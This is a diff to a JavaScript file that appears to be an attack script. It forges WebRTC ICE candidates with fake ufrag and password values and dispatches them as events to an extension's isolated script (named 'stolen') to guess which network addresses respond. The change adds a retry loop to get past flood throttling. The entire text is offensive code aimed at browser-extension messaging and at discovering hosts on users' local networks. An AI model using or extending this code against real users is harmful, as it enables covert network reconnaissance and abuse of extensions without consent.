@@ -142,13 +142,17 @@ async function leave(times) {
 async function guess(addresses) {
   forged.answers.length = 0;
   quiet = true; // what is guessed is no find
-  addresses.forEach((address, i) => {
+  for (const [i, address] of addresses.entries()) {
     const text = `candidate:1 1 udp 2113937151 ${address} 50000 typ host generation 0 ufrag forged${i}`;
     forged.asked++;
     for (const node of ways()) {
-      saved.apply(saved.dispatch, node, [new saved.CustomEvent("ask", {cancelable: true, detail: forgedText(`77${i}`, text, "forged-password-of-a-session")})]);
+      const ask = () => saved.apply(saved.dispatch, node, [new saved.CustomEvent("ask", {cancelable: true, detail: forgedText(`77${i}`, text, "forged-password-of-a-session")})]);
+      // After a flood the isolated script takes none for a moment.
+      for (let tries = 20; ask() && node === globalThis.stolen && --tries > 0;) {
+        await sleep(100);
+      }
     }
-  });
+  }
   await sleep(1500);
   const heard = forged.answers.splice(0);
   quiet = false;
@@ -251,4 +255,4 @@ async function reach(gateway, extension) {
   return tried;
 }
 
-const everything = () => ({texts: [...seen], answers: forged.answers, ufrags: [...ufrags], taken: forged.taken, found: nodes.has(globalThis.stolen)});
+const everything = () => ({texts: [...seen], answers: forged.answers, ufrags: [...ufrags], taken: forged.taken, found: forged.found});
